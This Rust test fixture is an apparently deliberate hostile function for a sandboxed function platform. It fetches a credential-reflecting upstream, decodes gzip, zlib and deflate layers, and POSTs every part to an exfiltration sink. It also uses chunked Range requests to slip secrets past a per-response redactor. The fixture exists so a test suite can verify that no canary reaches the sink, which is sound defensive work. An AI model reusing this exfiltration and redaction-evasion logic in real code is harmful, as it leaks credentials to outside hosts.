//! Test fixture: a hostile function. It sends one request through a connection (to an
//! upstream that reflects the credentials back), decodes what came back in every way it can
//! (gzip, zlib, raw deflate, several layers), and forwards all of it, raw and decoded, to
//! an exfiltration sink on one of its own allowed hosts. The exfiltration suite
//! (`tests/tests/e2e/exfiltration.rs`) checks the sink never receives a canary byte.
//!
//! Input: `{"connection": "link", "url": "http://…", "method": "GET", "headers": [["k",
//! "v"]], "body": "text", "range_chunk": 8, "exfil": "http://sink/case"}`; `method`,
//! `headers`, `body` and `range_chunk` are optional. With `range_chunk` the function reads
//! the response piecewise with `Range: bytes=a-b` requests and glues the pieces together.
//!
//! Each non-empty part goes to the sink as its own `POST {exfil}/{part}` with the bytes as
//! they are: `body`, `inflated` (every decompression that worked), `headers` (`name: value`
//! lines), `names` (the header names alone), `error` (`kind: message`).
//!
//! Output: `{"status": 200, "headers": [["k", "v"]], "body_len": 12, "error": null,
//! "sent": 3}`: what arrived (minus the body, which only the sink gets) and how many parts
//! reached the sink.

use std::io::Read as _;

use serde::Deserialize;
use switchboard_sdk::serde_json::Value;
use switchboard_sdk::{HttpError, Method, Request, Response, invoke_url, json};

#[derive(Deserialize)]
struct Input {
    connection: String,
    url: String,
    #[serde(default)]
    method: Option<String>,
    #[serde(default)]
    headers: Vec<(String, String)>,
    #[serde(default)]
    body: Option<String>,
    #[serde(default)]
    range_chunk: Option<usize>,
    exfil: String,
}

/// Most `Range` requests one call makes: the upstream's reflection is short.
const MAX_PIECES: usize = 40;
/// Bound on what one decompression may produce.
const MAX_INFLATED: u64 = 1 << 20;

fn run(input: Input) -> Result<Value, String> {
    let method: Method = match &input.method {
        Some(m) => m.parse().map_err(|e| format!("{e}"))?,
        None => Method::Get,
    };
    let mut request = Request::new(method, input.url.clone());
    for (name, value) in &input.headers {
        request = request.header(name.clone(), value.clone());
    }
    if let Some(body) = &input.body {
        request = request.body(body.clone());
    }

    let result = match input.range_chunk {
        Some(chunk) => fetch_in_pieces(&input.connection, &request, chunk.max(1)),
        None => invoke_url(Some(&input.connection), request),
    };

    let mut parts: Vec<(&str, Vec<u8>)> = Vec::new();
    let summary = match &result {
        Ok(response) => {
            parts.push(("body", response.body.clone()));
            parts.push(("inflated", inflate_all(&response.body)));
            let mut lines = Vec::new();
            let mut names = Vec::new();
            for (name, value) in &response.headers {
                lines.extend_from_slice(format!("{name}: {value}\n").as_bytes());
                names.extend_from_slice(format!("{name}\n").as_bytes());
            }
            parts.push(("headers", lines));
            parts.push(("names", names));
            json!({
                "status": response.status,
                "headers": response.headers,
                "body_len": response.body.len(),
                "error": null,
            })
        }
        Err(e) => {
            parts.push(("error", e.to_string().into_bytes()));
            json!({ "error": { "kind": e.kind(), "message": e.message() } })
        }
    };

    let mut sent = 0;
    for (part, bytes) in parts {
        if bytes.is_empty() {
            continue;
        }
        let to_sink = Request::post(format!("{}/{part}", input.exfil))
            .header("content-type", "application/octet-stream")
            .body(bytes);
        invoke_url(None, to_sink).map_err(|e| format!("the sink refused part {part}: {e}"))?;
        sent += 1;
    }
    let mut summary = summary;
    summary["sent"] = json!(sent);
    Ok(summary)
}

/// Reads the response with `Range` requests of `chunk` bytes until a piece comes back
/// short or not as a 206: pieces shorter than a secret slip past a redactor that looks at
/// one response at a time.
fn fetch_in_pieces(
    connection: &str,
    request: &Request,
    chunk: usize,
) -> Result<Response, HttpError> {
    let mut glued: Option<Response> = None;
    for piece in 0..MAX_PIECES {
        let from = piece * chunk;
        let ranged = request
            .clone()
            .header("range", format!("bytes={from}-{}", from + chunk - 1));
        let response = invoke_url(Some(connection), ranged)?;
        let partial = response.status == 206;
        let short = response.body.len() < chunk;
        match &mut glued {
            None => glued = Some(response),
            Some(all) if partial => all.body.extend_from_slice(&response.body),
            Some(_) => break,
        }
        if !partial || short {
            break;
        }
    }
    Ok(glued.expect("MAX_PIECES is at least 1"))
}

/// Every way `bytes` decompresses (gzip, zlib, raw deflate), up to three layers deep,
/// one result after the other; empty when nothing does.
fn inflate_all(bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut layer = vec![bytes.to_vec()];
    for _ in 0..3 {
        let mut next = Vec::new();
        for data in &layer {
            for decoded in [gunzip(data), unzlib(data), undeflate(data)]
                .into_iter()
                .flatten()
            {
                out.extend_from_slice(&decoded);
                out.push(b'\n');
                next.push(decoded);
            }
        }
        if next.is_empty() {
            break;
        }
        layer = next;
    }
    out
}

fn read_bounded(reader: impl std::io::Read) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    reader.take(MAX_INFLATED).read_to_end(&mut out).ok()?;
    (!out.is_empty()).then_some(out)
}

fn gunzip(data: &[u8]) -> Option<Vec<u8>> {
    data.starts_with(&[0x1f, 0x8b])
        .then(|| read_bounded(flate2::read::MultiGzDecoder::new(data)))
        .flatten()
}

fn unzlib(data: &[u8]) -> Option<Vec<u8>> {
    read_bounded(flate2::read::ZlibDecoder::new(data))
}

fn undeflate(data: &[u8]) -> Option<Vec<u8>> {
    // Raw deflate has no header to recognise it by; only a stream that decodes to the
    // end counts.
    let mut decoder = flate2::read::DeflateDecoder::new(data);
    let mut out = Vec::new();
    (&mut decoder)
        .take(MAX_INFLATED)
        .read_to_end(&mut out)
        .ok()?;
    (!out.is_empty() && decoder.total_in() == data.len() as u64).then_some(out)
}

switchboard_sdk::export_function!(run);
